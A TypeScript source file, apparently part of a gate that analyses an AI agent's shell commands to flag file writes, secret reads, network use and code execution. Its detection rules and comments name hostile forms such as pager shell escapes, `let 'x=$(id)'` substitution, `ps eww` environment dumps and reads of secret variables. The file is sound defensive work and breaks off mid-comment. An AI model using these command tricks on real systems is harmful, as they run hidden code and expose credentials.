/**
 * A simple command's effects from its program's spec (specs.ts): the paths it writes, the files it
 * reads, the hosts it talks to, and what makes it unknown (a flag the spec does not know, code or a
 * command handed to it). The walk adds them to the command, so the pack's write, persistence,
 * secret and host rules judge what the command does, not what it is called.
 */
import { totalmem } from "node:os";
import { canonicalHost } from "../hosts.js";
import { hostOf } from "../paths.js";
import { flagsLoad, propertyKind } from "../program-keys.js";
import { injectsEnv } from "../protect.js";
import { wordTable } from "../word-table.js";
import { GIT_LONGS } from "./git-longs.js";
import { CMD_VARS, INJECT_VARS } from "./programs.js";
import { databaseLine } from "./queries.js";
import {
  CMAKE_E,
  GIT_CODE_SUBS,
  GIT_GLOBAL,
  GIT_INERT_KEYS,
  GIT_SUB,
  longPrefix,
  MAX_REPEATS,
  MAX_REQUESTS,
  MAX_WORKERS,
  type ProgramSpec,
  type Role,
  SPEC_ALIASES,
  SPECS,
} from "./specs.js";
import type { Word } from "./types.js";
import { CONTAINER_BOOL, CONTAINER_VALUES, composeSub, containerRun, wrappedStart } from "./wrappers.js";

/** A word that is not an option: an operand, or one only known at run time (it may be either). */
const isOperand = (w: Word): boolean => w.value === null || !w.value.startsWith("-");

export interface Effects {
  /** Paths written, created or deleted (as written: the walk resolves them). */
  writes: string[];
  /** Paths read. */
  reads: string[];
  hosts: string[];
  /** Reasons the command is at least ESCALATE. */
  floors: string[];
  /** A written path is only known at run time. */
  dynamicWrite: boolean;
  /** Files of code the command runs (judged against the workspace and the session's artefacts). */
  scripts: string[];
  /**
   * A file mode it sets has the setuid or setgid bit (`chmod u+s`, `install -m 4755`): true; a mode
   * only known at run time may have it (`chmod "$M" f`, a dynamic word install may read as `-m…`):
   * "maybe", which a deny rule on the mode matches as might-match (ESCALATE), never as DENY (gate65).
   */
  setid: boolean | "maybe";
  /**
   * The directory it writes files into that its input names, not its words (`git apply`, `patch`,
   * `tar x`, `unzip`, `cpio -i`): fed from the network, that tree holds code nobody read. `/` when the
   * directory is only known at run time (it could be anywhere).
   */
  tree: string | null;
  /** Variables it writes (`read NAME`, `printf -v NAME`, `getopts OPTS NAME`); "" for a name only known at run time. */
  sets: string[] | null;
  /** Names it binds to a program's path for the rest of the shell (`hash git=/tmp/g`, `hash -p /tmp/g git`). */
  binds: [string, string][] | null;
  /** Directories it reads recursively, every file below them (`diff -r A B`), as written. */
  readTrees: string[];
  /**
   * Words that are the program's script or expression (`sed 's|http://a|b|'`, `awk '…'`, `jq '…'`):
   * the walk reads them as neither paths nor hosts; their effects are what the parsers here found.
   */
  exprs: Word[];
  /**
   * Directories it writes an unknown set of files under (an archive extracted there, members not
   * named on the line): judged as DIR/**, so a persistence path the set may hold counts.
   */
  subtrees: string[];
  /**
   * The git repository it opens, as written: `--git-dir D` (explicit), or the directory git
   * discovers one from (`-C D`, else the cwd). git runs that repository's config and hooks.
   */
  repo: { dir: string; explicit: boolean } | null;
  /**
   * The compressed or archived files it expands (as written; its standard input too, which the walk
   * adds): null when it expands nothing. A download expanded can fill the disk (a decompression bomb).
   */
  expands: string[] | null;
  /** The sources a move takes away (`mv A B`, `git mv A B`), as written: written (removed) too (gate55). */
  moved: string[] | null;
  /** The long flags its abbreviations stand for (`git push --mirr` is `--mirror`): the rules judge them too. */
  longFlags: string[];
  /**
   * It copies, moves or links files: what it writes holds what it reads (cp, mv, install, ln,
   * ditto, rsync, dd, `git mv`, `cmake -E copy`), so a written file's taint follows to its copies.
   */
  copy: boolean;
  /**
   * The project directories a runner's options name, as written (`npm --prefix D`, `make -C D`,
   * `cargo --manifest-path D/Cargo.toml`, `pip install -e D`): it runs their code, not the cwd's.
   * Null: none named (it runs the cwd's). A name only known at run time is `/` (it could be any).
   */
  projects: string[] | null;
  /**
   * Text files a test runner runs as code (doctests), as basename globs: pytest collects `test*.txt`
   * and every `--doctest-glob` pattern, `deno test --doc` the code blocks of Markdown files. Null: none.
   */
  doctests: string[] | null;
  /**
   * gate56: the words that are process ids of a signal (`kill`), canonical (`01`, `+1`, `' 1'` are
   * `1`; `-001` is `-1`), whatever flag they look like (`kill -9 -1`, `kill -s KILL -1`): the walk
   * gives them to the rules as operands, so a pid rule sees every spelling. Null: none.
   */
  pids: Word[] | null;
}

/** What effects.ts needs from the walk: the workspace test and the command's text for reasons. */
export interface EffectsCtx {
  text: string;
  /** True when `p` (as written) lies inside the workspace. */
  inWorkspace(p: string): boolean;
}

/** The program's spec, if the gate has one. */
export function specOf(program: string): ProgramSpec | undefined {
  return SPECS[SPEC_ALIASES[program] ?? program];
}

/** True when every word of the program is only text: its spec's operands and flag values are `none`. */
export function inertWords(program: string): boolean {
  const spec = specOf(program);
  if (spec?.operands !== "none" || spec.sub) return false;
  return Object.values(spec.values ?? {}).every((r) => r === "none");
}

/** Effects of `program words…`; null when the gate has no spec for the program (the rules alone judge it). */
export function commandEffects(program: string, words: Word[], ctx: EffectsCtx): Effects | null {
  const fx: Effects = {
    writes: [],
    reads: [],
    hosts: [],
    floors: [],
    dynamicWrite: false,
    scripts: [],
    setid: false,
    tree: null,
    sets: null,
    binds: null,
    readTrees: [],
    exprs: [],
    subtrees: [],
    repo: null,
    expands: null,
    moved: null,
    longFlags: [],
    copy: false,
    projects: null,
    doctests: null,
    pids: null,
  };
  workerCount(program, words, ctx, fx);
  repeatCount(program, words, ctx, fx);
  if (INLINE_CODE_FLAGS[program] !== undefined) inlineCopies(program, words, fx);
  const project = PROJECT_OPTIONS[program];
  if (project !== undefined) projectDirs(project, words, fx);
  doctestFiles(program, words, fx);
  const runner = FILE_RUNNERS[program];
  if (runner !== undefined) fileRunner(runner, words, ctx, fx);
  if (GLOBAL_PROGRAMS.has(program)) globalInstall(program, words, ctx, fx);
  const loads = CODE_FLAGS[program];
  if (loads !== undefined) codeFlags(program, loads, words, ctx, fx);
  if (program === "jest" || program === "vitest") namedCodeFlags(program, words, ctx, fx);
  // gate62: `python -m pytest …` is pytest, with its flags.
  else if (program === "python" || program === "python3") {
    const m = pythonModuleAt(words);
    if (m >= 0 && words[m + 1]?.value === "pytest")
      codeFlags("pytest", CODE_FLAGS.pytest!, words.slice(m + 2), ctx, fx);
  }
  const chooses = INTERPRETER_FLAGS[program];
  if (chooses !== undefined) interpreterFlags(chooses, words, ctx, fx);
  const props = PROPERTY_SPELLINGS[program];
  if (props !== undefined) propertyOptions(props, words, ctx, fx);
  const prints = SETTINGS_PRINTS[program];
  if (prints !== undefined) settingsPrints(prints, words, fx);
  else if (SCRIPT_HOSTS.has(program)) hostedPrints(words, fx);
  if (EXPAND_TO_STDOUT.has(program)) {
    fx.expands = archiveOperands(words);
    for (const f of fx.expands) fx.reads.push(f);
    return fx;
  }
  switch (program) {
    case "git":
      gitEffects(words, ctx, fx);
      return fx;
    case "open":
      openEffects(words, ctx, fx);
      return fx.floors.length > 0 || fx.scripts.length > 0 ? fx : null;
    case "sed":
    case "gsed":
      sedEffects(words, ctx, fx);
      return fx;
    case "cpio":
      if (words.some((w) => w.value !== null && (/^-[a-zA-Z]*i/.test(w.value) || w.value === "--extract"))) {
        fx.tree = dirFlag(words, ["-D", "--directory"]);
        fx.subtrees.push(fx.tree);
        fx.expands = [];
      }
      return fx;
    case "7z":
    case "7za":
    case "7zz":
      if (words[0]?.value === "x" || words[0]?.value === "e") {
        const o = words.find((w) => w.value?.startsWith("-o"));
        fx.tree = o === undefined ? "." : (o.value?.slice(2) ?? "/");
        fx.subtrees.push(fx.tree);
        fx.expands = archiveOperands(words.slice(1));
      }
      return fx;
    case "tar":
    case "gtar":
    case "bsdtar":
      tarEffects(words, ctx, fx);
      return fx;
    // Recursive copies the gate has no spec for: what they copy into the workspace is a tree.
    // `ditto -x` extracts an archive into its last operand instead.
    case "ditto":
      if (words.some((w) => w.value === "-x" || w.value === "-xk" || w.value === "-kx")) {
        const ops = words.filter(isOperand);
        const dest = ops[ops.length - 1];
        if (ops.length >= 2 && dest !== undefined) {
          apply("write", "operand", dest.value, ctx, fx);
          if (dest.value !== null) extracted(fx, dest.value, []);
        }
        for (const o of ops.slice(0, -1)) apply("read", "operand", o.value, ctx, fx);
        return fx;
      }
      treeCopy(words, DITTO_VALUED, ctx, fx, false);
      return fx;
    case "rsync":
      for (const w of words) {
        const v = w.value;
        if (v === null || /^(-e|--rsh|--rsync-path)(=|$)/.test(v) || /^-[a-zA-Z]*e$/.test(v))
          floor(fx, `code-runner: '${ctx.text}' names a remote shell or program for rsync to run`);
      }
      treeCopy(words, RSYNC_VALUED, ctx, fx, false);
      return fx;
    case "dd":
      fx.copy = true;
      for (const w of words) {
        const v = w.value;
        if (v === null) fx.dynamicWrite = true;
        else if (v.startsWith("of=")) fx.writes.push(v.slice(3));
        else if (v.startsWith("if=")) fx.reads.push(v.slice(3));
      }
      return fx;
    case "less":
    case "more":
    case "most":
      // `less +!cmd`, `more '+!id'`: a leading `+` is a pager command, and `!` runs a shell; a
      // lesskey file (`-k FILE`) binds keys to commands.
      for (let i = 0; i < words.length; i++) {
        const v = words[i]!.value;
        if (v === null || v.startsWith("+"))
          floor(fx, `code-runner: '${ctx.text}' gives the pager a command to run`);
        else if (v === "-k" || v === "--lesskey-file" || v === "--lesskey-src")
          apply("script", v, words[++i]?.value ?? null, ctx, fx);
        else if (/^(-k.|--lesskey-(file|src)=)/.test(v))
          apply("script", "-k", v.slice(v.startsWith("-k") ? 2 : v.indexOf("=") + 1), ctx, fx);
      }
      return fx;
    case "find":
      findEffects(words, ctx, fx);
      return fx;
    case "kill":
      killEffects(words, ctx, fx);
      break;
    case "go":
      goModuleHosts(words, ctx, fx);
      goEnvWrite(words, fx);
      if (words[0]?.value === "install")
        floor(fx, `persistence: '${ctx.text}' installs programs onto PATH outside the workspace (GOBIN)`);
      // `go run mod@version`, `go install mod@version`: fetches code nobody has read and builds it.
      if (
        (words[0]?.value === "run" || words[0]?.value === "install") &&
        words.slice(1).some((w) => w.value?.includes("@"))
      )
        floor(fx, `code-runner: '${ctx.text}' fetches a module and runs or installs it`);
      break;
    case "ollama":
      ollamaRegistry(words, ctx, fx);
      ollamaSize(words, ctx, fx);
      break;
    // gate64: waits longer than a day
    case "sleep":
      sleepFor(words, ctx, fx);
      break;
    case "caffeinate":
      caffeinateHold(words, ctx, fx);
      break;
    case "ps":
      if (psShowsEnvironment(words)) fx.reads.push(ENVIRON);
      return fx;
    case "kubectl":
    case "oc":
      kubectlEffects(words, fx);
      return fx;
    case "hash":
      hashEffects(words, ctx, fx);
      return fx;
    case "setopt":
    case "unsetopt":
    case "shopt":
      // `setopt -m 'hist*'`: every option the pattern names, known only to zsh.
      if (program !== "shopt" && words.some((w) => w.value === null || /^-[a-zA-Z]*m/.test(w.value)))
        floor(fx, `shell-state: '${ctx.text}' sets the shell options a pattern matches`);
      // A glob word is judged without dot files (`*` skips `.ssh`): an option that adds them is reviewed.
      if (words.some((w) => w.value === "dotglob" || w.value === "globdots" || w.value === "noglobdots"))
        floor(fx, `shell-state: '${ctx.text}' makes globs match dot files`);
      return fx;
    case "add-zsh-hook":
      // `add-zsh-hook precmd NAME`: NAME runs at every prompt (zshexit at exit, preexec per command).
      if (!words.some((w) => w.value === "-d" || w.value === "-D"))
        floor(
          fx,
          `shell-definition: '${ctx.text}' makes zsh run a function at every prompt, command or exit`,
        );
      return fx;
    case "autoload":
      // `autoload /path/fn`: the function's code is that file (zsh loads it on the first call).
      for (const w of words) if (w.value?.includes("/") && !w.value.startsWith("-")) fx.scripts.push(w.value);
      return fx;
    case "let":
    case "declare":
    case "typeset":
    case "local":
    case "export":
    case "readonly": {
      // Flags alone print variables, the exported environment among them (`declare -xp`, `export -p`).
      if (program !== "let" && program !== "local" && words.every((w) => w.value?.startsWith("-")))
        fx.reads.push(ENVIRON);
      // `declare -p NAME`, `typeset -m 'AWS*'` print the named variables: a secret when a name says
      // so, or when it is a pattern (zsh -m) or only known at run time.
      else if (
        program !== "let" &&
        words.some((w) => w.value !== null && /^-[a-zA-Z]*[pm]/.test(w.value)) &&
        words.some(
          (w) =>
            w.value === null ||
            (!w.value.startsWith("-") && (SECRET_NAME.test(w.value) || /[*?[]/.test(w.value))),
        )
      )
        fx.reads.push(ENVIRON);
      // Arithmetic contexts expand `a[$(…)]` subscripts: `let 'x=$(id)'`, `declare -i x='a[$(id)]'`.
      const arith = program === "let" || words.some((w) => w.value !== null && /^-[a-zA-Z]*i/.test(w.value));
      if (arith && words.some((w) => w.value === null || /\$\(|`|\[/.test(w.value)))
        floor(fx, `code: '${ctx.text}' evaluates arithmetic that can run a substitution`);
      if (program !== "let" && words.some((w) => w.value !== null && /^-[a-zA-Z]*f/.test(w.value)))
        floor(fx, `shell-definition: '${ctx.text}' changes shell functions`);
      // `let HISTSIZE=0`, `let 'x+=1'`: the names assigned.
      if (program === "let")
        for (const w of words) {
          const m =
            w.value === null
              ? null
              : /^\s*([A-Za-z_][A-Za-z0-9_]*)[^=]*?(?:[-+*/%&|^]|<<|>>)?=(?!=)/.exec(w.value);
          if (m) setVar(fx, m[1]!);
        }
      if (program !== "let" && words.some((w) => w.value !== null && /^-[a-zA-Z]*n/.test(w.value)))
        floor(
          fx,
          `shell-state: '${ctx.text}' makes a name refer to another variable (a later assignment changes that one)`,
        );
      return fx;
    }
    case "cmake":
      {
        const e = words.findIndex((w) => w.value === "-E");
        if (e >= 0) {
          cmakeE(words.slice(e + 1), ctx, fx);
          return fx;
        }
      }
      buildToolCode(program, words, ctx, fx);
      break;
    case "make":
    case "gmake":
      buildToolCode(program, words, ctx, fx);
      // With no -C or -f, make runs the makefile in its directory: a clone made earlier is judged.
      if (
        !words.some((w) => w.value === null || /^(-[a-zA-Z]*[Cf]|--(directory|file|makefile))/.test(w.value))
      )
        fx.scripts.push("Makefile");
      break;
    case "pylint":
    case "tox":
    case "mvn":
    case "mvnw":
    case "libtool":
    case "glibtool":
    case "cargo":
      if (program === "cargo" && words[0]?.value === "install")
        floor(
          fx,
          `persistence: '${ctx.text}' installs programs onto PATH outside the workspace (~/.cargo/bin)`,
        );
      buildToolCode(program, words, ctx, fx);
      if (fx.floors.length > 0) return fx;
      break;
    case "awk":
      awkEffects(words, ctx, fx);
      return fx;
    case "env":
      envEffects(words, ctx, fx);
      return fx;
    case "read":
    case "mapfile":
    case "readarray":
    case "getopts":
    case "printf":
    case "print":
    case "vared":
      // `read PROMPT_COMMAND <<< …`, `printf -v HISTFILE …`, `getopts o HISTFILE`: the variables
      // written are judged like `NAME=…` by the walk (their value is only known at run time).
      setVariables(program, words, ctx, fx);
      if (program === "printf") break; // its spec judges the rest
      return fx;
    case "printenv":
      // One variable: a secret when its name says so (`printenv AWS_SECRET_ACCESS_KEY`).
      if (words.some((w) => w.value === null || SECRET_NAME.test(w.value))) fx.reads.push(ENVIRON);
      return fx;
    case "umask": {
      // A mask that lets group or others write makes every later file writable by them.
      const m = words.find(isOperand);
      if (m !== undefined && (m.value === null || !/^0*[0-7]?[2367][2367]$/.test(m.value)))
        floor(fx, `shell-state: '${ctx.text}' lets other users write the files made after it`);
      return fx;
    }
    case "seq":
      for (const w of words)
        if (w.value === null || /^[+-]?(inf|infinity|nan)$/i.test(w.value) || hugeNumber(w.value))
          floor(fx, `resources: '${ctx.text}' counts without a useful bound`);
      // `seq 0 0.000000001 9` prints nine billion lines: the count is known from the numbers.
      if (fx.floors.length === 0) {
        const n = seqCount(words);
        if (n > SEQ_MAX_LINES)
          floor(fx, `resources: '${ctx.text}' prints ${n === Infinity ? "endless" : n} lines`);
      }
      return fx;
    case "split":
    case "gsplit":
      splitPieces(words, ctx, fx);
      break;
    case "xargs":
      for (let i = 0; i < words.length; i++) {
        const v = words[i]!.value;
        const n =
          v === "-P" || v === "--max-procs"
            ? words[i + 1]?.value
            : v?.startsWith("--max-procs=")
              ? v.slice(12)
              : v !== null && /^-P\d+$/.test(v)
                ? v.slice(2)
                : undefined;
        if (n !== undefined && (n === null || n === "0" || Number(n) > 64))
          floor(fx, `resources: '${ctx.text}' starts an unbounded number of processes (-P ${n ?? "?"})`);
      }
      return fx;
    case "docker":
    case "podman":
    case "nerdctl":
      containerEffects(words, ctx, fx);
      buildOutput(words, fx);
      return fx;
    case "node":
    case "bun":
    case "deno":
      if (program === "deno") denoRemote(words, ctx, fx);
      // gate59: `deno run -A 'data:text/javascript,…'` (or `;base64,…`) runs the URL's text as its
      // module: code given inline, as `node --import data:…` is.
      for (const w of words)
        if (w.value !== null && DATA_URL.test(w.value)) {
          floor(fx, `inline-code: '${ctx.text}' runs a module given inline as a data: URL`);
          break;
        }
      // `deno run --inspect=0.0.0.0 main.ts`: deno's flags follow its subcommand.
      inspector(
        program === "deno" && words[0]?.value?.startsWith("-") === false ? words.slice(1) : words,
        ctx,
        fx,
      );
      if (fx.floors.length > 0) return fx;
      break;
    case "sbt":
      // scala-sbt.org/1.x/docs/Command-Line-Reference.html: each operand is an sbt command; eval,
      // set, console*, apply and `< FILE` run Scala or commands given inline, `;` chains several;
      // `-J-javaagent:` / `-J-agentpath:` load a JVM agent.
      for (const w of words) {
        const v = w.value;
        if (v === null || /^\s*(eval|set|console\w*|apply|shell|<|~)(\s|$)/.test(v) || v.includes(";"))
          floor(fx, `code: '${ctx.text}' gives sbt a command that runs code given inline`);
        else if (/^-J-(javaagent|agentpath|agentlib|XX:On)/.test(v))
          floor(fx, `code: '${ctx.text}' loads a JVM agent into sbt`);
      }
      break;
    case "pipx":
      return fx;
    // python-dotenv's CLI: `dotenv list` / `dotenv get KEY` print the file's values.
    case "dotenv":
      if (words.some((w) => w.value === "list" || w.value === "get")) dotenvReads(words, fx);
      break;
    case "python": {
      // `python -m http.server`: a listener that serves the workspace to whoever connects.
      const m = pythonModuleAt(words);
      const mod = m >= 0 ? words[m + 1]?.value : undefined;
      if (mod === null || (mod && LISTENER_MODULES.has(mod)))
        floor(fx, `network-listener: '${ctx.text}' serves files or mail to the network (-m ${mod ?? "?"})`);
      // `-m timeit STMT…` runs its statements as `-c` does; `-m doctest FILE` runs the examples in
      // FILE, so FILE is code run (a session artefact is judged as one).
      if (mod === "timeit")
        floor(fx, `code: '${ctx.text}' runs statements given on the command line (-m timeit)`);
      if (mod === "dotenv") dotenvReads(words.slice(m + 2), fx);
      if (mod === "doctest")
        for (const w of words.slice(m + 2))
          if (w.value !== null && !w.value.startsWith("-")) fx.scripts.push(w.value);
      // A debugger or notebook server listening off loopback runs whatever code reaches it.
      if (mod === "debugpy" || mod === "notebook" || mod === "jupyterlab" || mod === "jupyter")
        for (let i = m + 2; i < words.length; i++) {
          const v = words[i]!.value;
          const host = v === null ? "?" : (/^--(?:listen|ip|host)=(.*)$/.exec(v)?.[1] ?? null);
          const next = v === "--listen" || v === "--ip" ? words[i + 1]?.value : undefined;
          const h = host ?? (next === undefined ? null : (next ?? "?"));
          if (
            h !== null &&
            !/^\d+$/.test(h) &&
            !LOOPBACK_HOST.test(h) &&
            !LOOPBACK_HOST.test(h.replace(/:\d+$/, ""))
          )
            floor(fx, `remote-code: '${ctx.text}' listens on ${h} (whoever reaches it runs code)`);
        }
      if (fx.floors.length > 0) return fx;
      break;
    }
    case "yes":
      // BSD yes takes no flags: `yes --version` prints "--version" forever, so no argv of yes is a
      // version query (the pack's version-queries rule matches the argv alone).
      floor(fx, `resources: '${ctx.text}' prints its arguments forever (yes takes no flags)`);
      return fx;
    case "xmllint":
      // XInclude, external entities and DTDs load the files and URLs the document names (the
      // document, often a heredoc, names ~/.ssh/id_rsa as easily as a schema).
      if (
        words.some(
          (w) =>
            w.value === null ||
            /^--(xinclude|noent|loaddtd|dtdattr|valid|dtdvalid(=|$)|path(=|$))/.test(w.value),
        )
      )
        floor(fx, `code: '${ctx.text}' loads the files and URLs the document names`);
      break;
    case "http":
    case "https":
    case "xh":
    case "xhs": {
      // httpie/xh: a write method or request items (`k=v`, `k:=json`, `f@file`) send data.
      // Methods are case-blind (`xh post`); `@FILE` alone is the body read from FILE.
      const ops = words.filter(isOperand);
      const first = ops[0]?.value;
      const items = ops.slice(first && /^[A-Za-z]+$/.test(first) && !first.includes(".") ? 2 : 1);
      if (
        (first && /^(POST|PUT|PATCH|DELETE)$/i.test(first)) ||
        items.some((w) => w.value === null || /^([^=:@]+(==|:=|=|@|:=@|=@)|@)/.test(w.value))
      )
        floor(fx, `network-upload: '${ctx.text}' sends data (a write method or request items)`);
      httpieSaves(words, ops, ctx, fx);
      return fx;
    }
    case "aria2c":
      aria2Saves(words, ctx, fx);
      return fx;
    case "gh":
      ghSaves(words, ctx, fx);
      return fx;
    case "psql":
    case "sqlite3":
    case "mongosh":
      databaseEffects(program, words, ctx, fx);
      return fx;
  }
  const spec = specOf(program);
  // No spec: the rules alone judge it, with what was found above (a worker count, a code flag).
  if (!spec)
    return fx.floors.length > 0 ||
      fx.scripts.length > 0 ||
      fx.hosts.length > 0 ||
      fx.reads.length > 0 ||
      fx.projects !== null ||
      fx.doctests !== null ||
      loads !== undefined
      ? fx
      : null;
  byspec(spec, words, ctx, fx);
  switch (program) {
    case "jq":
      jqFilter(words, ctx, fx);
      break;
    case "yq":
      yqExpression(words, ctx, fx);
      break;
    case "chmod":
    case "install":
      modeEffects(program, words, fx);
      break;
    case "ln":
      symlinkTarget(words, fx);
      break;
    case "cp":
    case "gcp":
      for (const w of words)
        if (w.value !== null && RECURSIVE_COPY.test(w.value)) {
          treeCopy(words, CP_VALUED, ctx, fx, true);
          break;
        }
      break;
    case "printf":
      printfEffects(words, ctx, fx);
      break;
    case "curl": {
      const args = curlArgs(words);
      curlWriteOut(args, ctx, fx);
      curlVariables(args, fx);
      curlRemoteNames(args, ctx, fx);
      curlUrlencodeFiles(args, fx);
      curlGlobCount(args, ctx, fx);
      typedCredentialUpload(args.opts, CURL_SENDS, ctx, fx);
      break;
    }
    case "wget":
      wgetDefaultOutput(words, ctx, fx);
      typedCredentialUpload(wgetOpts(words), WGET_SENDS, ctx, fx);
      break;
    case "patch":
      // Without a file operand or -o, the patch itself names the files it writes.
      {
        const named = words.some(
          (w, k) =>
            w.value !== null &&
            (/^(-o|--output)/.test(w.value) ||
              (!w.value.startsWith("-") &&
                !/^(-[pidrBFVzD]|--(strip|input|directory|reject-file|prefix|fuzz|suffix|ifdef|backup-if-mismatch|quoting-style))$/.test(
                  words[k - 1]?.value ?? "",
                ))),
        );
        if (!named && !words.some((w) => w.value === "--dry-run")) {
          fx.dynamicWrite = true;
          fx.tree = dirFlag(words, ["-d", "--directory"]);
        }
      }
      break;
    case "unzip":
      // `-:` keeps `../` in member names: they land outside the target directory.
      if (words.some((w) => w.value !== null && /^-[a-zA-Z]*:/.test(w.value))) fx.dynamicWrite = true;
      // Listing, testing and piping to stdout write nothing; otherwise the members land in -d (or the cwd).
      if (!words.some((w) => w.value !== null && /^-[a-zA-Z]*[lptvZ]/.test(w.value))) {
        fx.tree = dirFlag(words, ["-d"]);
        extracted(fx, fx.tree, unzipMembers(words));
      }
      // `-p` expands the members to standard output; listing (`-l`, `-v`, `-Z`) expands nothing.
      if (!words.some((w) => w.value !== null && /^-[a-zA-Z]*[lvZ]/.test(w.value)))
        fx.expands = unzipArchive(words);
      break;
    case "gzip":
    case "gunzip":
    case "xz":
    case "unxz":
    case "bzip2":
    case "bunzip2":
    case "zstd":
    case "unzstd":
    case "lz4":
    case "brotli":
      decompressed(program, words, fx);
      break;
    case "mdfind":
      // Spotlight searches the whole disk unless `-onlyin DIR` narrows it.
      if (!words.some((w) => w.value === "-onlyin")) fx.reads.push("/");
      break;
    case "npm":
    case "pnpm":
    case "yarn":
    case "bun":
    case "pip":
    case "uv":
    case "brew":
      packageSources(program, words, ctx, fx);
      break;
    case "jupyter":
      jupyterEffects(words, ctx, fx);
      break;
    case "rake":
      // ruby.github.io/rake: `-g`/`--system` loads the global rakefiles in ~/.rake (code outside the
      // workspace); without -f, rake runs ./Rakefile (a session-written one is judged as run).
      if (words.some((w) => w.value === null || /^(-[a-zA-Z]*g|--system)$/.test(w.value)))
        floor(fx, `code: '${ctx.text}' loads the global rakefiles in ~/.rake (-g)`);
      if (!words.some((w) => w.value !== null && /^(-[a-zA-Z]*f|--rakefile)/.test(w.value)))
        fx.scripts.push("Rakefile");
      break;
    case "diff":
      // `diff -r A B` reads every file below A and B.
      if (words.some((w) => w.value !== null && (/^-[a-zA-Z]*r/.test(w.value) || w.value === "--recursive")))
        fx.readTrees.push(...fx.reads);
      break;
  }
  return fx;
}

/**
 * gate65: `ln -s T N` stores T as text; the kernel resolves a relative T from N's directory, not
 * from the cwd (`ln -s ../shared/types.ts src/types.ts` points at ./shared/types.ts). The spec's
 * cp shape and the walk read T from the cwd: for that one form T is the link's text (an expr), and
 * the walk's link targets (walk.ts linkTargets: from N's directory, and from N as a directory)
 * are its paths. With `-r`/`--relative` GNU ln
 * reads T from the cwd, and `-t DIR` or several targets keep the cp shape: those stay as they are.
 */
function symlinkTarget(words: Word[], fx: Effects): void {
  const ops: Word[] = [];
  let symbolic = false;
  for (const w of words) {
    const v = w.value;
    if (v === null) return;
    if (v === "--symbolic") symbolic = true;
    else if (v.startsWith("--")) {
      if (/^--(relative|target-directory)/.test(v)) return;
    } else if (v.startsWith("-") && v !== "-") {
      if (/[rtST]/.test(v.slice(1))) return;
      if (v.includes("s")) symbolic = true;
    } else ops.push(w);
  }
  if (!symbolic || ops.length !== 2) return;
  const t = ops[0]!.value!;
  if (t.startsWith("/") || t.startsWith("~") || /[:=,]/.test(t)) return;
  const at = fx.reads.indexOf(t);
  if (at >= 0) fx.reads.splice(at, 1);
  // The link's text, not a path from the cwd (the walk adds no path for it; linkTargets does).
  fx.exprs.push(ops[0]!);
}

/** A data: URL (RFC 2397): a media type, then a comma and the data. */
const DATA_URL = /^data:[^,]*,/i;

/** deno subcommands that run (or install) the module they name. */
const DENO_RUNS = new Set(["run", "x", "install", "compile", "serve", "test", "bench"]);
/** A module deno fetches: an npm or jsr package, or a URL. */
const DENO_REMOTE = /^(?:npm:|jsr:|https?:\/\/)/i;

/**
 * `deno run -A npm:pkg`, `deno x jsr:@s/t`: a package fetched from a registry and run with
 * permissions (`-A`, `--allow-*`, `-R`/`-W`/`-N`… short forms): code nobody read, out of deno's
 * sandbox. Without a permission flag deno's sandbox holds it (it asks, and an agent has no tty).
 */
function denoRemote(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  const sub = words[0]?.value;
  if (sub === null || sub === undefined || !DENO_RUNS.has(sub)) return;
  let perms = sub === "install" || sub === "compile";
  let remote: string | null | undefined;
  for (const w of words.slice(1)) {
    const v = w.value;
    if (v === null) {
      remote ??= null;
      continue;
    }
    if (/^(-A|--allow-|-[A-Za-z]*[RWNESAI]([A-Za-z]*|=.*)$)/.test(v)) perms = true;
    else if (remote === undefined && !v.startsWith("-")) remote = DENO_REMOTE.test(v) ? v : "";
  }
  if (perms && (remote === null || (remote !== undefined && remote !== "")))
    floor(
      fx,
      `code-runner: '${ctx.text}' fetches ${remote ?? "a module only known at run time"} and runs it with permissions`,
    );
}

/**
 * jupyter (gate51): traitlets options on the command line (`--Exporter.preprocessors=['m.P']`,
 * `--NbConvertApp.…`) import Python classes by name, and `nbconvert --execute` runs the notebook's
 * cells (nbconvert.readthedocs.io, "Executing notebooks"): the notebooks named are code run, a
 * session-written one judged as such; `--stdin` with --execute runs code the gate cannot read.
 */
function jupyterEffects(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  let execute = false;
  for (const w of words) {
    const v = w.value;
    if (
      v === null ||
      (/^--[A-Z]\w*\./.test(v) && !/^--ExecutePreprocessor\.(kernel_name|timeout)(=|$)/.test(v))
    )
      floor(fx, `code: '${ctx.text}' sets a jupyter option that can import code`);
    else if (v === "--execute" || v === "--stdin") execute ||= v === "--execute";
  }
  if (!execute) return;
  if (words.some((w) => w.value === "--stdin"))
    floor(fx, `inline-code: '${ctx.text}' executes a notebook read from standard input`);
  for (const r of fx.reads) fx.scripts.push(r);
}

/**
 * `ps` prints every process's environment (tokens in variables) with BSD `e` (`ps eww`, `ps axe`)
 * or `E` (`ps axE`, `ps -E`, macOS); `-e` alone selects every process. The values of `-o`, `-p`,
 * `-U` … are not flags. A word only known at run time could be either: the environment, to be safe.
 */
function psShowsEnvironment(words: Word[]): boolean {
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null) return true;
    if (v.startsWith("--")) {
      if (!v.includes("=") && PS_LONG_VALUES.has(v)) i++;
      continue;
    }
    const dash = v.startsWith("-");
    for (let k = dash ? 1 : 0; k < v.length; k++) {
      const c = v[k]!;
      if (c === "E" || (c === "e" && !dash)) return true;
      if (PS_VALUES.includes(c)) {
        if (k === v.length - 1) i++;
        break;
      }
    }
  }
  return false;
}
const PS_VALUES = "oOpUuGgtCqkN";
const PS_LONG_VALUES = new Set([
  "--format",
  "--sort",
  "--pid",
  "--ppid",
  "--user",
  "--User",
  "--group",
  "--Group",
  "--tty",
  "--cols",
  "--columns",
  "--width",
  "--rows",
  "--lines",
  "--sid",
  "--quick-pid",
]);

/** Where the cluster's Secret objects are read from: a path in `secrets` (orchestrators' mounted secrets). */
export const CLUSTER_SECRETS = "/var/run/secrets/kubernetes.io/cluster";

const KUBECTL_VALUES = new Set([
  "-n",
  "--namespace",
  "--context",
  "--cluster",
  "--user",
  "--kubeconfig",
  "-s",
  "--server",
  "--token",
  "--as",
  "--as-group",
  "-o",
  "--output",
  "-l",
  "--selector",
  "--field-selector",
  "--template",
  "-f",
  "--filename",
  "-L",
  "--label-columns",
  "--sort-by",
  "--chunk-size",
  "--request-timeout",
  "-c",
  "--container",
  "--subresource",
]);

/**
 * `kubectl get|edit SECRETS`: the cluster's secrets (resource names are case-blind and come as
 * `secret`, `secrets`, `secrets.v1`, `secret/NAME` or in a comma list: `cm,SECRETS`), and
